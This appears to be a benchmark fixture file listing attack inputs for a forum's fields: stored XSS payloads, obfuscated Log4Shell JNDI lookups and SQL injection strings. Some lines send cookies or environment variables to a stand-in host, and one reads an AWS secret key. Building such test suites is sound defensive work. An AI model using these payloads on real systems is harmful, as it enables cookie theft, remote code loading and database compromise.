// Attacks on the forum's fields, written for this benchmark: stored XSS and
// logging lookups in the content fields (the vectors XSS filter-evasion and
// Log4Shell write-ups list: tags, event handlers, script URLs hidden by
// entities, case, whitespace and references, SVG/MathML, data: URLs; nested
// and case-folded lookups), and SQL injection in identifier fields.

export const STORED_XSS: string[] = [
  "<script>alert(document.cookie)</script>",
  "hello <ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><input type=submit>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">',
  '<p style="x:expression(alert(1))">',
  "<input autofocus onfocus=alert(1)>",
  "[click me](javascript:alert(document.domain))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![img](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](vbscript:msgbox(1))",
  'Nice post! <img src="x" onerror="fetch(\'//evil.example/?c=\'+document.cookie)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="//evil.example/">',
];

export const LOG4SHELL: string[] = [
  "${jndi:ldap://evil.example/a}",
  "error in ${jndi:rmi://evil.example:1099/obj}",
  "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
  "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
  "${jndi:${lower:l}${lower:d}ap://evil.example/a}",
  "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
  "${jndi:dns://evil.example/a}",
  "${${upper:j}ndi:ldaps://evil.example/a}",
  "User-supplied: ${env:AWS_SECRET_ACCESS_KEY}",
  "${sys:java.version} ${jndi:ldap://${env:USER}.evil.example/a}",
  "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D ${jndi:iiop://evil.example/a}",
  "```\n${jndi:ldap://evil.example/in-a-code-block}\n```",
];

/** SQL injection in identifier fields: [field kind, value]. */
export const IDENTIFIER_SQLI: string[] = [
  "1' OR '1'='1",
  "1 OR 1=1",
  "1; DROP TABLE users--",
  "1 UNION SELECT password FROM users",
  "x' UNION SELECT username, password FROM users--",
  "1' AND SLEEP(5)--",
  "1) OR (1=1",
  "admin'--",
  "1' AND extractvalue(1,concat(0x7e,version()))--",
  "1;WAITFOR DELAY '0:0:5'--",
  "-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables",
  "1' || pg_sleep(5) --",
  "1 AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)",
  "' OR ''='",
  "1'/**/OR/**/1=1#",
];
